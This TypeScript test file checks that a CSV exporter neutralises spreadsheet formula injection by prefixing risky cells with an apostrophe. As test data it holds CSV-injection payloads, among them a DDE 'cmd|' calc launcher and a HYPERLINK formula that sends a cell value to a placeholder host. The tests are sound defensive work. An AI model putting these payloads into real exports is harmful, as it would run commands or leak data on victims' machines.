import { readFile } from "node:fs/promises";
import { join } from "node:path";
import fc from "fast-check";
import { expect, test } from "vitest";
import { temporaryFolder } from "../../test/temporary-folder.ts";
import type { FlatRow } from "../report/flat-row.ts";
import { exportFiles } from "./export-folder.ts";

/** The cells of the written table, as RFC 4180 reads them. */
async function written(rows: readonly FlatRow[]): Promise<string[][]> {
  await using folder = await temporaryFolder();
  await exportFiles(folder.path).table("t.csv", rows);
  const text = await readFile(join(folder.path, "t.csv"), "utf8");
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text
    .replace(/^\uFEFF/, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end !== ",") lines.push([]);
  }
  return lines.slice(0, -1);
}

test.each([
  "=1+1",
  '=HYPERLINK("https://x.example?"&A1;"open")',
  "+SUM(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  // The whole cell counts, not its first line.
  "=1+1\nsecond line",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
])("a cell %j is written so that no spreadsheet runs it", async (cell) => {
  expect(await written([{ title: cell }])).toEqual([["title"], [`'${cell}`]]);
});

test("a title of a column is no formula either", async () => {
  expect(await written([{ "=1+1": "a" }])).toEqual([["'=1+1"], ["a"]]);
});

test.each(["-5", "+3.5", "-1,200.00", "-5%", "a=b", "", "中心"])(
  "a cell %j stays as it is",
  async (cell) => {
    expect(await written([{ title: cell, more: "x" }])).toEqual([
      ["title", "more"],
      [cell, "x"],
    ]);
  },
);

test("cells come back as they were but for the apostrophe, whatever they hold", async () => {
  const text = fc.string({ unit: "binary", maxLength: 20 });
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 5 }), async (cells) => {
      const [, ...rows] = await written(cells.map((cell) => ({ key: "k", cell })));
      expect(rows.map(([, cell]) => cell?.replace(/^'/, ""))).toEqual(
        cells.map((cell) => cell.replace(/^'/, "")),
      );
    }),
    { numRuns: 50 },
  );
});
